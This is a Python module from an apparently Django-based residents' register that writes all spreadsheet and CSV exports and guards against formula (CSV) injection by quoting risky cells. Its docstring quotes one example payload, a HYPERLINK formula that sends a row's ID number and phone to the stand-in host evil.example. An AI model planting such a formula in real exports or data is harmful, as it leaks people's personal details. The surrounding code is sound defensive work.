"""Every spreadsheet and CSV file the project hands out is written here, and nowhere else
(``tests/core/test_exports.py`` fails on a writer anywhere else in ``src/``).

Why one writer: a cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is a formula to Excel, WPS and LibreOffice (and openpyxl itself stores a
string starting with ``=`` as a live formula). A note typed through the API as
``=HYPERLINK("http://evil.example/?"&A2, "点击")`` would become, in an unmasked export, a
link that sends the row's ID number and phone away. Following OWASP's rule on CSV
injection, such text is written with a leading single quote and stored as a string.

The choice for look-alikes: numbers, dates and booleans are written as what they are (a
number cell cannot be a formula), so a basement floor ``-1`` stays a number. Text that
merely looks numeric — a phone written ``+86 138…``, a door number ``-1``, a note starting
with a dash — gets the quote like any other text: everything personal the register exports
is text already, and a visible quote is a small price for never running a formula. Reading
a file back (the register import) drops that quote again with ``unquote_cell``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import IO, Any

import openpyxl
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_TYPES = (bool, int, float, Decimal, dt.date, dt.datetime, dt.time)
_BOLD = Font(bold=True)
_ERROR_TEXTS = frozenset(ERROR_CODES)


def safe_cell(value: Any) -> Any:
    """The value as it may be written to a spreadsheet or CSV cell: numbers, dates and
    booleans unchanged, ``None`` unchanged, anything else as text with a leading ``'``
    when it begins like a formula."""
    if value is None or isinstance(value, _PLAIN_TYPES):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def unquote_cell(text: str) -> str:
    """Undo ``safe_cell`` on text read back from one of our files, so that a note exported
    as ``'-3号楼旁`` imports as ``-3号楼旁``."""
    if len(text) > 1 and text[0] == "'" and text[1] in "".join(FORMULA_TRIGGERS):
        return text[1:]
    return text


def export_notice(actor, moment=None) -> str:
    """Who exported, when, and that the file is for work only: printed on every sheet of an
    export, so that a copy found on a desk or forwarded in a chat says where it came from."""
    moment = timezone.localtime(moment or timezone.now())
    name = str(actor)
    username = actor.get_username()
    who = name if name == username else f"{name}（{username}）"
    return _("导出人：%(who)s  导出时间：%(at)s  仅限工作使用，不得外传") % {
        "who": who,
        "at": f"{moment:%Y-%m-%d %H:%M}",
    }


def _header_footer_text(text: str) -> str:
    # "&" starts a code in a sheet header or footer (&P is the page number).
    return text.replace("&", "&&")


class Sheet:
    """One worksheet. Rows go in through ``write_row`` only, each cell through ``safe_cell``
    and, when text, stored as a string (data type ``s``), never as a formula."""

    def __init__(self, worksheet, *, write_only: bool):
        self._ws = worksheet
        self._write_only = write_only

    def write_row(self, values, *, bold: bool = False) -> None:
        cells = []
        for value in values:
            value = safe_cell(value)
            # openpyxl stores a str as a formula only when it starts with "=", which
            # safe_cell has quoted, and as an error cell when it is an error code such
            # as "#N/A": that one (and a bold cell) goes in as a cell typed as text. Plain
            # values take openpyxl's fast path.
            if bold or value in _ERROR_TEXTS:
                cell = WriteOnlyCell(self._ws, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"
                if bold:
                    cell.font = _BOLD
                value = cell
            cells.append(value)
        self._ws.append(cells)

    def format_as_text(self, column: int, first_row: int, last_row: int) -> None:
        """Text format on empty cells, so that an ID number typed there stays text instead
        of becoming 5.10402E+17. Only in a workbook built in memory."""
        if self._write_only:
            raise ValueError("format_as_text needs a workbook built in memory")
        for row in range(first_row, last_row + 1):
            self._ws.cell(row=row, column=column).number_format = "@"


class Workbook:
    """An .xlsx being written. ``write_only`` streams rows (the export of a whole
    community); otherwise the workbook is built in memory (small files that format empty
    cells, like the import template).

    ``notice`` — who exported it, when, what for — is printed in the header and footer of
    every sheet, and with ``notice_row`` is also the first row of every sheet, so that a
    copy found on a desk or forwarded in a chat says where it came from."""

    def __init__(self, *, write_only: bool = True, notice: str = "", notice_row: bool = False):
        self._write_only = write_only
        self._book = openpyxl.Workbook(write_only=write_only)
        self._first_unused = None if write_only else self._book.active
        self.notice = notice
        self.notice_row = notice_row and bool(notice)

    def sheet(self, title: str, *, widths=(), freeze_header: bool = False) -> Sheet:
        """A new sheet. ``widths`` are the column widths from A on; ``freeze_header``
        keeps the first row under the notice in view. (A streamed sheet takes both only
        before its first row, hence here.)"""
        if self._first_unused is not None:
            worksheet, self._first_unused = self._first_unused, None
            worksheet.title = title
        else:
            worksheet = self._book.create_sheet(title)
        for column, width in enumerate(widths, start=1):
            worksheet.column_dimensions[get_column_letter(column)].width = width
        if freeze_header:
            worksheet.freeze_panes = "A3" if self.notice_row else "A2"
        sheet = Sheet(worksheet, write_only=self._write_only)
        if self.notice:
            text = _header_footer_text(self.notice)
            worksheet.oddHeader.center.text = text
            worksheet.oddFooter.center.text = text + " &P/&N"
            worksheet.evenHeader.center.text = text
            worksheet.evenFooter.center.text = text + " &P/&N"
        if self.notice_row:
            sheet.write_row([self.notice], bold=True)
        return sheet

    def save(self, output: IO[bytes] | None = None) -> bytes | None:
        """Write to ``output`` (a file the response streams), or return the bytes."""
        if output is not None:
            self._book.save(output)
            return None
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()


class _CsvWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **kwargs) -> _CsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""
    return _CsvWriter(csv.writer(stream, **kwargs))
